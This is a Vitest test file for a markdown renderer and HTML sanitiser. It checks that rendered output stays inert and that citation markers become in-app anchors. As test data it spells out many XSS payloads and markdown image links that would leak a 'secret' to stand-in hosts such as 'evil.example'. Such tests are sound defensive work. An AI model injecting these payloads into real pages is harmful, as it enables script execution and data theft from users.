import { describe, expect, it } from 'vitest';
import { linkCitations, renderMarkdown, renderMarkdownToHTML, sanitizeHTML } from '../src/markdown';

/** Renders into a live container and returns it, so we can inspect the DOM a user would get. */
function render(src: string, citations?: number[]): HTMLDivElement {
  const div = document.createElement('div');
  div.append(renderMarkdown(src, { citations: citations ? new Set(citations) : undefined }));
  document.body.append(div);
  return div;
}

/** All attribute values in the rendered tree (text content may legitimately show escaped HTML). */
function attrValues(div: HTMLElement): string {
  return Array.from(div.querySelectorAll('*'))
    .flatMap((el) => Array.from(el.attributes).map((a) => `${a.name}=${a.value}`))
    .join('\n');
}

/** Everything executable or remote-loading that must never survive. */
function assertInert(div: HTMLElement): void {
  expect(div.querySelectorAll('script, iframe, object, embed, style, link, meta, base, form, svg, math, frame, video, audio, source').length).toBe(0);
  for (const el of Array.from(div.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith('on'), `${el.tagName} has ${attr.name}`).toBe(false);
      expect(['style', 'id', 'name', 'srcset', 'formaction', 'xlink:href', 'action', 'background', 'poster']).not.toContain(attr.name);
    }
  }
  for (const img of Array.from(div.querySelectorAll('img'))) {
    expect(img.getAttribute('src') ?? '').toMatch(/^data:image\/(png|jpe?g|gif|webp);base64,/);
  }
  for (const a of Array.from(div.querySelectorAll('a'))) {
    // The only anchors allowed are citation anchors we built.
    expect(a.className).toBe('cite');
    expect(a.getAttribute('href')).toMatch(/^#source-\d+$/);
  }
  expect(attrValues(div)).not.toMatch(/javascript:|vbscript:|data:text|https?:|\/\//i);
}

describe('markdown rendering', () => {
  it('renders ordinary markdown', () => {
    const d = render('# Title\n\nSome **bold** and `code`.\n\n- a\n- b\n\n```js\nlet x = 1 < 2;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(d.querySelector('h1')?.textContent).toBe('Title');
    expect(d.querySelector('strong')?.textContent).toBe('bold');
    expect(d.querySelectorAll('li').length).toBe(2);
    expect(d.querySelector('pre code')?.textContent).toBe('let x = 1 < 2;\n');
    expect(d.querySelector('pre code')?.className).toBe('language-js');
    expect(d.querySelectorAll('td').length).toBe(2);
  });

  it('shows raw <script> as text, never as an element', () => {
    const d = render('Hello <script>alert(1)</script> world\n\n<script>\nalert(2)\n</script>');
    assertInert(d);
    expect(d.textContent).toContain('<script>alert(1)</script>');
  });

  it('neutralises <img src=x onerror=…> in inline and block HTML', () => {
    const d = render('text <img src=x onerror=alert(1)> more\n\n<img src="x" onerror="alert(2)">\n\n<div><img src=x onerror=alert(3)></div>');
    assertInert(d);
    expect(d.querySelectorAll('img').length).toBe(0);
  });

  it('makes javascript:, data:text/html, vbscript: and obfuscated links inert', () => {
    const d = render(
      [
        '[click](javascript:alert(1))',
        '[c2](JaVaScRiPt:alert(1))',
        '[c3](java&#x09;script:alert(1))',
        '[c4](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
        '[c5](vbscript:msgbox(1))',
        '<javascript:alert(1)>',
        '[ref][j]\n\n[j]: javascript:alert(1)',
        '<a href="javascript:alert(1)">raw</a>',
      ].join('\n\n'),
    );
    assertInert(d);
    expect(d.textContent).toContain('click');
    expect(d.textContent).toContain('ref');
  });

  it('shows external http(s) links as inert text with their URL', () => {
    const d = render('See [the docs](https://example.com/a?b=1) and https://example.org/x.');
    assertInert(d);
    expect(d.querySelectorAll('a').length).toBe(0);
    expect(d.textContent).toContain('the docs');
    expect(d.textContent).toContain('(https://example.com/a?b=1)');
    expect(d.textContent).toContain('https://example.org/x');
  });

  it('removes a markdown image that would leak data to a remote host', () => {
    const d = render('Answer ![x](http://127.0.0.1:9/leak?d=secret) done');
    assertInert(d);
    expect(d.querySelectorAll('img').length).toBe(0);
    expect(d.innerHTML).not.toContain('127.0.0.1:9');
    expect(d.innerHTML).not.toContain('secret');
    expect(d.querySelector('.md-img-blocked')?.textContent).toBe('[image removed: x]');
  });

  it('removes reference-style images', () => {
    const d = render('Look ![x][r] and ![y][]\n\n[r]: http://127.0.0.1:9/leak?d=secret\n[y]: //evil.example/p.png "t"');
    assertInert(d);
    expect(d.querySelectorAll('img').length).toBe(0);
    expect(d.innerHTML).not.toContain('leak');
    expect(d.innerHTML).not.toContain('evil.example');
    expect(d.querySelectorAll('.md-img-blocked').length).toBe(2);
  });

  it('removes images hidden in links, protocol-relative and srcset tricks', () => {
    const d = render(
      '[![a](http://evil/1.png)](http://evil/2)\n\n![b](//evil/3.png)\n\n<img srcset="http://evil/4.png 1x">\n\n<picture><source srcset="http://evil/5.png"><img src="http://evil/6.png"></picture>',
    );
    assertInert(d);
    expect(attrValues(d)).not.toContain('evil');
    // markdown images never show their URL, not even as text
    expect(d.textContent).not.toMatch(/evil\/[13]/);
    expect(d.querySelectorAll('img').length).toBe(0);
  });

  it('keeps inline raster data: images but drops data:image/svg+xml', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const d = render(`![ok](${png}) ![svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)`);
    assertInert(d);
    const imgs = d.querySelectorAll('img');
    expect(imgs.length).toBe(1);
    expect(imgs[0].getAttribute('src')).toBe(png);
    expect(d.textContent).toContain('[image removed: svg]');
  });

  it('defeats SVG, iframe, style, form, meta and mutation-XSS tricks', () => {
    const payloads = [
      '<svg onload=alert(1)><circle r=10 /></svg>',
      '<svg><script>alert(1)</script></svg>',
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      '<iframe src="javascript:alert(1)"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<style>body{background:url(http://evil/x)}</style>',
      '<div style="background-image:url(http://evil/y)">styled</div>',
      '<form action="http://evil"><button formaction="javascript:alert(1)">b</button></form>',
      '<meta http-equiv="refresh" content="0;url=http://evil">',
      '<base href="http://evil/">',
      '<object data="http://evil/z.swf"></object><embed src="http://evil/e">',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<details open ontoggle=alert(1)>',
      '<input autofocus onfocus=alert(1)>',
      '<p id="__proto__" name="cookie">clobber</p>',
    ];
    for (const p of payloads) {
      for (const src of [p, `inline ${p} text`, `> ${p}`, `- ${p}`]) {
        const d = render(src);
        assertInert(d);
        expect(attrValues(d), src).not.toContain('evil');
      }
    }
  });

  it('does not let a code-fence language inject classes or attributes', () => {
    const d = render('```js" onmouseover="alert(1)\nx\n```\n\n```cite\ny\n```');
    assertInert(d);
    expect(d.querySelector('.cite')).toBeNull();
  });

  it('keeps HTML entities as text', () => {
    const d = render('a &lt;script&gt; b');
    expect(d.querySelector('script')).toBeNull();
    expect(d.textContent).toContain('<script>');
  });
});

describe('citation linking', () => {
  it('turns [n] for known sources into in-app anchors', () => {
    const d = render('Lore uses SQLite [1] and HNSW [2][3]. See [1, 3].', [1, 2, 3]);
    const cites = Array.from(d.querySelectorAll('a.cite'));
    expect(cites.map((a) => a.getAttribute('data-cite'))).toEqual(['1', '2', '3', '1', '3']);
    expect(cites.map((a) => a.getAttribute('href'))).toEqual(['#source-1', '#source-2', '#source-3', '#source-1', '#source-3']);
    expect(d.textContent).toContain('Lore uses SQLite [1] and HNSW [2][3]. See [1] [3].');
    assertInert(d);
  });

  it('leaves unknown numbers, non-numbers and code alone', () => {
    const d = render('Only [1] exists; [7] does not; [a] is text; `arr[1]` is code.\n\n```\nx[1]\n```', [1]);
    const cites = d.querySelectorAll('a.cite');
    expect(cites.length).toBe(1);
    expect(d.textContent).toContain('[7] does not');
    expect(d.querySelector('code')?.textContent).toBe('arr[1]');
    expect(d.querySelector('pre code')?.textContent).toBe('x[1]\n');
  });

  it('does not link when no sources are known', () => {
    expect(renderMarkdownToHTML('claim [1]')).not.toContain('<a');
  });

  it('links inside emphasis and list items', () => {
    const d = render('- **fast [2]**\n- *slow [1]*', [1, 2]);
    expect(d.querySelectorAll('li a.cite').length).toBe(2);
    expect(d.querySelector('strong a.cite')?.getAttribute('data-cite')).toBe('2');
  });

  it('linkCitations works on an element and counts what it made', () => {
    const el = document.createElement('p');
    el.textContent = '[1] and [2] and [9]';
    expect(linkCitations(el, new Set([1, 2]))).toBe(2);
    expect(el.querySelectorAll('a').length).toBe(2);
  });

  it('a citation-looking reference link with a hostile definition stays inert', () => {
    const d = render('claim [1]\n\n[1]: javascript:alert(1)', [1]);
    assertInert(d);
  });
});

describe('sanitiser layer alone (if the markdown layer ever let raw HTML through)', () => {
  const raw = [
    '<script>alert(1)</script>',
    '<img src="http://127.0.0.1:9/leak?d=secret" alt="a">',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="http://evil/">x</a>',
    '<svg onload=alert(1)><image href="http://evil/i.png"/></svg>',
    '<iframe src="http://evil/"></iframe>',
    '<style>@import "http://evil/x.css";</style>',
    '<p style="background:url(http://evil/bg)">x</p>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<video poster="http://evil/p.png"></video>',
    '<input type="image" src="http://evil/i.png">',
    '<table background="http://evil/t.png"><tr><td>x</td></tr></table>',
  ];
  for (const p of raw) {
    it(`neutralises ${p}`, () => {
      const div = document.createElement('div');
      div.append(sanitizeHTML(p));
      assertInert(div);
      expect(div.querySelectorAll('a').length).toBe(0);
    });
  }
});
